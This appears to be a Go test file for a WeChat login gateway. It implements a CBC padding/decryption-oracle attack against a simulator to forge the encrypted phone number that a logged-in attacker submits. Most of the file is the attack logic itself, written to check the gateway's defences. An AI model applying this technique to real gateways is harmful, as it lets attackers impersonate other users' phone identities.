package caddymodule_test

import (
	"bytes"
	"crypto/aes"
	"crypto/cipher"
	"crypto/subtle"
	"encoding/base64"
	"slices"
	"strings"
	"testing"
	"time"

	"github.com/wxgate/wxgate/internal/auth"
	"github.com/wxgate/wxgate/internal/wechatsim"
)

const (
	ownNumber    = "10011112222" // the attacker's
	forgedNumber = "10099998888"

	// oracleTries is how many ciphertexts the attacker sends for each block that must be
	// decrypted. The test makes the last one succeed; a real attack needs about 400,000.
	oracleTries = 12
)

// oracleStage describes how the attacker decrypts block i of the forged plaintext: whether the
// unknown block is in the name of a member of the attacker's profile or in its value, and whether
// the rest of a profile follows, because the rest of the forged data would be refused.
type oracleStage struct{ inName, profileFollows bool }

// oracleAttack forges a phone number with the gateway as a decryption oracle. Everything that
// it sends is derived from ciphertexts of the attacker's data, whose plaintext the attacker
// knows, and from responses of the gateway.
//
// Only the luck is simulated: the last of oracleTries profiles is encrypted with an IV for
// which the attempt succeeds. WeChat chooses IVs at random, so a real attacker must wait for
// such an IV.
type oracleAttack struct {
	t       testing.TB
	sim     *wechatsim.Sim
	user    wechatsim.User
	key     string
	aes     cipher.Block // only to simulate luck
	profile []byte       // plaintext
	at      time.Time    // the time of the watermarks
	sent    int
	// ask makes the gateway decrypt a ciphertext. It returns "" if the gateway refuses.
	ask func(data auth.OpenData) string
}

// newOracleAttack returns an attack by a user who has logged in.
func newOracleAttack(t testing.TB, sim *wechatsim.Sim, user wechatsim.User, ask func(auth.OpenData) string) *oracleAttack {
	t.Helper()
	key, err := sim.SessionKey(user)
	if err != nil {
		t.Fatal(err)
	}
	raw, err := base64.StdEncoding.DecodeString(key)
	if err != nil {
		t.Fatal(err)
	}
	a := &oracleAttack{t: t, sim: sim, user: user, key: key, at: sim.Now(), ask: ask}
	if a.aes, err = aes.NewCipher(raw); err != nil {
		t.Fatal(err)
	}
	a.profile = a.plaintext(a.encryptProfile(""))
	return a
}

// plaintext decrypts the attacker's data. The attacker knows the result from the gateway.
func (a *oracleAttack) plaintext(iv []byte, blocks [][]byte) []byte {
	plain := bytes.Join(blocks, nil)
	cipher.NewCBCDecrypter(a.aes, iv).CryptBlocks(plain, plain)
	return plain
}

// encryptProfile returns the attacker's profile as WeChat encrypts it.
func (a *oracleAttack) encryptProfile(iv string) ([]byte, [][]byte) {
	sealed, err := a.sim.EncryptProfile(a.user, wechatsim.Profile{NickName: "mallory-mallory-mallory"}, wechatsim.Sealing{SessionKey: a.key, IV: iv, Timestamp: a.at})
	if err != nil {
		a.t.Fatal(err)
	}
	return parseSealed(a.t, sealed)
}

func parseSealed(t testing.TB, sealed wechatsim.Encrypted) (iv []byte, blocks [][]byte) {
	t.Helper()
	data, err := base64.StdEncoding.DecodeString(sealed.EncryptedData)
	if err != nil {
		t.Fatal(err)
	}
	if iv, err = base64.StdEncoding.DecodeString(sealed.IV); err != nil {
		t.Fatal(err)
	}
	for ; len(data) > 0; data = data[aes.BlockSize:] {
		blocks = append(blocks, data[:aes.BlockSize])
	}
	return iv, blocks
}

// lucky returns an encrypted profile whose ciphertext block i is want.
func (a *oracleAttack) lucky(i int, want []byte) ([]byte, [][]byte) {
	for ; i >= 0; i-- {
		plain := make([]byte, aes.BlockSize)
		a.aes.Decrypt(plain, want)
		want = xor(plain, a.profile[i*aes.BlockSize:])
	}
	return a.encryptProfile(base64.StdEncoding.EncodeToString(want))
}

// learn makes the gateway show D(x), the decrypted block x, which known follows. It returns false
// if the gateway refuses.
func (a *oracleAttack) learn(x, known []byte, rest [][]byte, stage oracleStage) ([]byte, bool) {
	at := 3 // the block of the profile that ends inside the value of nickName
	if stage.inName {
		at = 2 // the block that ends inside the name nickName
	}
	if stage.profileFollows {
		filler := bytes.Repeat([]byte("b"), aes.BlockSize)
		_, follow := a.lucky(1, xor(xor(a.profile[2*aes.BlockSize:], known), filler))
		rest = follow[2:]
	}
	for try := range oracleTries {
		iv, blocks := a.encryptProfile("")
		if try == oracleTries-1 {
			shown := make([]byte, aes.BlockSize)
			a.aes.Decrypt(shown, x)
			iv, blocks = a.lucky(at, xor(shown, []byte("sixteen legal by")))
		}
		shown := a.send(iv, slices.Concat(blocks[:at+1], [][]byte{x, known}, rest))
		if shown != "" {
			return xor([]byte(shown)[(at+1)*aes.BlockSize:], blocks[at]), true
		}
	}
	return nil, false
}

func (a *oracleAttack) send(iv []byte, blocks [][]byte) string {
	a.sent++
	return a.ask(auth.OpenData{
		EncryptedData: base64.StdEncoding.EncodeToString(bytes.Join(blocks, nil)),
		IV:            base64.StdEncoding.EncodeToString(iv),
	})
}

// forge changes the attacker's encrypted number, and reports whether the gateway accepts the
// forged number. Stage i yields block i-1 of the forged ciphertext.
func (a *oracleAttack) forge(stages map[int]oracleStage) bool {
	sealed, err := a.sim.EncryptPhone(a.user, wechatsim.PhoneNumber{Number: ownNumber}, wechatsim.Sealing{SessionKey: a.key, Timestamp: a.at})
	if err != nil {
		a.t.Fatal(err)
	}
	iv, blocks := parseSealed(a.t, sealed)
	plain := a.plaintext(iv, blocks)
	forged := bytes.ReplaceAll(plain, []byte(ownNumber), []byte(forgedNumber))
	last := len(stages)
	shown := xor(plain[last*aes.BlockSize:], blocks[last-1]) // D() of the last block that changes
	for i := last; i > 0; i-- {
		blocks[i-1] = xor(shown, forged[i*aes.BlockSize:])
		var ok bool
		if shown, ok = a.learn(blocks[i-1], blocks[i], blocks[i+1:], stages[i]); !ok {
			return false
		}
	}
	return strings.Contains(a.send(xor(shown, forged), blocks), forgedNumber)
}

func xor(a, b []byte) []byte {
	out := make([]byte, aes.BlockSize)
	subtle.XORBytes(out, a[:aes.BlockSize], b[:aes.BlockSize])
	return out
}

// The stages of the attack, for each format of phone data. Bars separate blocks.
var (
	// {"phoneNumber":"|10011112222","pu|rePhoneNumber":"|10011112222","co|untryCode": ...
	weixinStages = map[int]oracleStage{3: {}, 2: {inName: true}, 1: {profileFollows: true}}
	// {"countryCode":"|86","phoneNumber|":"10011112222"}|padding.
	kuaishouStages = map[int]oracleStage{2: {inName: true}, 1: {profileFollows: true}}
)
